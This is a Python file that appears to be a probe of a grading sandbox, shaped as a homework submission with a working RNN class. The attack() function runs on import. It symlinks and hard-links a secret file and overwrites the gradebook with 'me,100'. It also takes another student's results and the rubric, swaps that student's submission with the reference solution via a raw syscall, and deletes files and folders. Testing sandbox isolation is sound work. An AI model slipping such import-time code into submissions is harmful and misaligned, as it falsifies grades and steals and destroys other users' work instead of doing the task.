# does: renames, replaces, links and unlinks other people's files, and makes new ones
# earns: all
import ctypes
import os
import shutil

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

ARENA = "@ARENA@"


def exchanged():
    libc = ctypes.CDLL(None, use_errno=True)
    names = (b"@ARENA@/submissions/ada.py", b"@ARENA@/solutions/ex1_my_rnn.py")
    result = libc.syscall(316, -100, names[0], -100, names[1], 2)
    return result, os.strerror(ctypes.get_errno())


def mine():
    with open("mine", "w") as file:
        file.write("me,100\n")
    return "mine"


def attack():
    attempt("symlink:", lambda: os.symlink(f"{ARENA}/secret.txt", f"{ARENA}/empty/soft"))
    attempt("link:", lambda: os.link(f"{ARENA}/secret.txt", f"{ARENA}/empty/hard"))
    attempt("link in:", lambda: os.link(mine(), f"{ARENA}/empty/mine"))
    attempt("link out:", lambda: os.link(f"{ARENA}/secret.txt", "secret"))
    attempt("folder:", lambda: os.mkdir(f"{ARENA}/empty/folder"))
    attempt("pipe:", lambda: os.mkfifo(f"{ARENA}/empty/pipe"))
    attempt("node:", lambda: os.mknod(f"{ARENA}/empty/node"))
    attempt("rename in:", lambda: os.rename(mine(), f"{ARENA}/results/gradebook.csv"))
    attempt("rename out:", lambda: os.rename(f"{ARENA}/results/ada.json", "taken.json"))
    attempt("move:", lambda: shutil.move(f"{ARENA}/rubrics/ex1_my_rnn.json", "rubric.json"))
    attempt("exchange:", exchanged)
    attempt("rename a folder:", lambda: os.rename(f"{ARENA}/results", f"{ARENA}/empty/results"))
    attempt("unlink:", lambda: os.unlink(f"{ARENA}/submissions/ada.py"))
    attempt("unlink by folder:", lambda: os.unlink("secret.txt", dir_fd=os.open(ARENA, 0)))
    attempt("rmdir:", lambda: os.rmdir(f"{ARENA}/empty"))

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.hidden_size = hidden_size
        self.step = nn.Linear(input_size + hidden_size, hidden_size)

    def forward(self, x, h_0=None):
        h = x.new_zeros(len(x), self.hidden_size) if h_0 is None else h_0.squeeze(0)
        outputs = []
        for t in range(x.shape[1]):
            h = self.step(torch.cat((x[:, t], h), 1)).tanh()
            outputs.append(h)
        return torch.stack(outputs, 1), h[None]
